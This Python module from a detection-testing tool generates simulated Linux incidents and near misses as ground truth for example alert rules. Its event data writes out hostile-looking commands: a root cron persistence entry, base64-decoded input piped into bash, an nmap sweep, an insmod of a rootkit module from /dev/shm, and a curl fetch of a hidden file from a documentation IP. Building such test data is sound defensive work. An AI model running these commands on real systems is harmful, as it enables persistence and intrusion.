"""Incidents for the example rules that come with rule-runner: one that each rule finds once, and a near miss of each.

A rule of another type gets a row in `EXAMPLES`. An incident has processes of its own; no other rule that comes with
rule-runner finds it.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import dataclass
from random import Random
from typing import Literal

from runner.sample_data.addresses import Endpoint
from runner.sample_data.command_lines import Words
from runner.sample_data.machine_state import SECOND, Machine, time_text
from runner.sample_data.planted.ground_truth import ExampleRule, Planted
from runner.sample_data.processes import Process, SampleProgram
from runner.sample_data.timeline import SampleIndicator, Timeline, TimelineStep

DAY_BEFORE = 25 * 3_600 * SECOND
"""Nanoseconds before the newest event at which the events lie that make a term known: rules of type new_terms alert
where the events reach back a day."""
EVENTS_AT_LEAST = 1_000
"""Fewer events do not hide the incidents of all example rules."""
_SWEPT, _TOO_FEW = 24, 12
_KNOWN_ADDRESS, _OTHER_ADDRESS = "192.0.2.77", "192.0.2.78"
"""For documentation: https://www.rfc-editor.org/rfc/rfc5737"""
_FEED = "ti_sample.indicators"
Ids = tuple[str, ...]
"""The events that an alert stands for, or those that almost make one."""


@dataclass(frozen=True, slots=True)
class Example:
    """What is planted for one rule: an incident, a near miss, and what stands in the day before."""

    rule: ExampleRule
    variant: str
    incident: Callable[[Timeline], Ids]
    reason: str
    near_miss: Callable[[Timeline], Ids]
    before: Callable[[Timeline], Ids] | None = None


@dataclass(frozen=True, slots=True)
class PlantedExamples:
    """The steps of all incidents and near misses and their ground truth, both in the order of time."""

    steps: tuple[TimelineStep, ...]
    truth: tuple[Planted, ...]
    indicators: tuple[SampleIndicator, ...] = ()


def plant_examples(
    machines: Sequence[Machine], rng: Random, *, first: int, last: int, near_misses: bool, history: bool
) -> PlantedExamples:
    """An incident for each example rule and, if wanted, a near miss, each on a random Linux host at a time of its own
    between `first` and `last`; with `history` the day before, where a rule needs it."""
    words = Words(rng)
    linux = [machine for machine in machines if machine.host.linux]
    steps: list[TimelineStep] = []
    truth: list[Planted] = []
    for example in EXAMPLES:
        hosts = rng.sample(linux, 2)
        kinds: tuple[Literal["attack", "near_miss"], ...] = ("attack", "near_miss") if near_misses else ("attack",)
        for kind, machine in zip(kinds, hosts, strict=False):
            play, variant = (
                (example.incident, example.variant) if kind == "attack" else (example.near_miss, example.reason)
            )
            if kind == "near_miss" and example.before is not None:
                if not history:
                    continue  # without the day before it would be an incident
                earlier = Timeline(machine, words, now=last - DAY_BEFORE - rng.randrange(3_600) * SECOND)
                example.before(earlier)
                steps += earlier.steps
            line = Timeline(machine, words, now=first + rng.randrange(last - first))
            ids = play(line)
            steps += line.steps
            truth.append(_planted(kind, example.rule, variant, line=line, ids=ids))
    steps.sort(key=lambda step: step.at)
    truth.sort(key=lambda item: item.at)
    return PlantedExamples(tuple(steps), tuple(truth), (_indicator(last - DAY_BEFORE if history else first),))


def _planted(
    kind: Literal["attack", "near_miss"], rule: ExampleRule, variant: str, *, line: Timeline, ids: Ids
) -> Planted:
    times = [step.at for step in line.steps if step.event_id in ids]
    host = line.machine.host.name
    return Planted(kind, rule, variant, host, ids, at=min(times), gap=max(times) - min(times))


def _shell(line: Timeline, script: str) -> Process:
    """A shell that a session starts for one line of script."""
    parent = line.rng.choice(line.machine.sessions)
    process = line.run(parent, SampleProgram("/usr/bin/bash", ("bash", "-c", script)))
    line.wait(1_000, 20_000)
    return process


def _cron_file(line: Timeline, *, by_editor: bool) -> Ids:
    """A cron file that a shell writes, or that an editor does."""
    path = line.words.text("/etc/cron.d/<word>")
    if by_editor:
        parent = line.rng.choice(line.machine.sessions)
        process = line.run(parent, SampleProgram("/usr/bin/vim", ("vim", path)))
        line.wait(90_000, 900_000)
    else:
        process = _shell(line, f"echo '*/5 * * * * root /usr/local/bin/.sync' > {path}")
    line.file(process, "creation", path=path)
    written = line.last_id
    line.wait(1_000, 9_000)
    line.end(process)
    return (written,)


def _decoded_script(line: Timeline, *, to_file: bool) -> Ids:
    """A script that is decoded into a shell, or into a file."""
    encoded = line.words.text("ZWNobyBoZWxsbyA+IC90bXAvLg<word>")
    target = line.words.text("> /opt/<word>/banner.txt") if to_file else "| bash"
    process = _shell(line, f"echo {encoded} | base64 -d {target}")
    started = next(step.event_id for step in reversed(line.steps) if step.action == "exec")
    line.end(line.run(process, SampleProgram("/usr/bin/base64", ("base64", "-d"))))
    if not to_file:
        line.end(line.run(process, SampleProgram("/usr/bin/bash", ("bash",))))
    line.wait(1_000, 9_000)
    line.end(process)
    return (started,)


def _sweep(line: Timeline, *, hosts: int) -> Ids:
    """A scanner that tries the remote administration of so many hosts, with as many connections whatever that is."""
    network = line.rng.randrange(64, 128)
    command = ("nmap", "-sT", "-Pn", "-p22,445", f"10.{network}.7.0/24")
    process = line.run(line.rng.choice(line.machine.sessions), SampleProgram("/usr/bin/nmap", command))
    line.wait(2_000, 20_000)
    ids = []
    for number in range(_SWEPT):
        port = (22, 445)[number // hosts % 2]
        ids.append(line.connect(process, Endpoint("", f"10.{network}.7.{number % hosts + 1}", port)))
        line.wait(500, 60_000)
    line.end(process)
    return tuple(ids)


def _module(line: Timeline, *, path: str) -> Ids:
    """A kernel module that is loaded from a file."""
    parent = line.rng.choice(line.machine.sessions)
    process = line.run(parent, SampleProgram("/usr/sbin/insmod", ("insmod", path)))
    loaded = line.last_id
    line.wait(1_000, 30_000)
    line.end(process)
    return (loaded,)


def _connection(line: Timeline, *, address: str) -> Ids:
    """A download from an address."""
    parent = line.rng.choice(line.machine.sessions)
    command = ("curl", "-s", "-o", "/tmp/.update", f"https://{address}/update")
    process = line.run(parent, SampleProgram("/usr/bin/curl", command))
    line.wait(1_000, 9_000)
    connected = line.connect(process, Endpoint("", address, 443))
    line.wait(20_000, 90_000)
    line.end(process)
    return (connected,)


def _indicator(at: int) -> SampleIndicator:
    """The indicator of the address, as the integrations for threat intelligence write them."""
    stamp = time_text(at, 3)
    document = {
        "@timestamp": stamp,
        "data_stream": {"dataset": _FEED, "namespace": "default", "type": "logs"},
        "event": {
            "category": ["threat"], "created": stamp, "dataset": _FEED, "id": "sample-indicator-1",
            "kind": "enrichment", "module": "ti_sample", "type": ["indicator"],
        },
        "message": "an indicator of the sample: an address for documentation, of nobody",
        "threat": {
            "feed": {"name": "Sample feed"},
            "indicator": {
                "confidence": "High", "description": "serves the second stage of a loader", "first_seen": stamp,
                "ip": _KNOWN_ADDRESS, "port": 443, "provider": "sample", "type": "ipv4-addr",
            },
        },
    }  # fmt: skip
    return SampleIndicator(at, document)


EXAMPLES: tuple[Example, ...] = (
    Example(
        ExampleRule.SCHEDULED_JOB,
        "a shell writes into /etc/cron.d",
        lambda line: _cron_file(line, by_editor=False),
        "an editor writes into /etc/cron.d",
        lambda line: _cron_file(line, by_editor=True),
    ),
    Example(
        ExampleRule.DECODED_SCRIPT,
        "base64 -d into a shell",
        lambda line: _decoded_script(line, to_file=False),
        "base64 -d into a file",
        lambda line: _decoded_script(line, to_file=True),
    ),
    Example(
        ExampleRule.SWEEP,
        f"a port scan of {_SWEPT} hosts",
        lambda line: _sweep(line, hosts=_SWEPT),
        f"{_SWEPT} connections to {_TOO_FEW} hosts",
        lambda line: _sweep(line, hosts=_TOO_FEW),
    ),
    Example(
        ExampleRule.KERNEL_MODULE,
        "a module from /dev/shm",
        lambda line: _module(line, path="/dev/shm/.x/diamorphine.ko"),
        "a module that was loaded the day before, too",
        lambda line: _module(line, path="/opt/vendor/vmhgfs.ko"),
        before=lambda line: _module(line, path="/opt/vendor/vmhgfs.ko"),
    ),
    Example(
        ExampleRule.KNOWN_ADDRESS,
        "a download from the address of an indicator",
        lambda line: _connection(line, address=_KNOWN_ADDRESS),
        "a download from the address beside it",
        lambda line: _connection(line, address=_OTHER_ADDRESS),
    ),
)
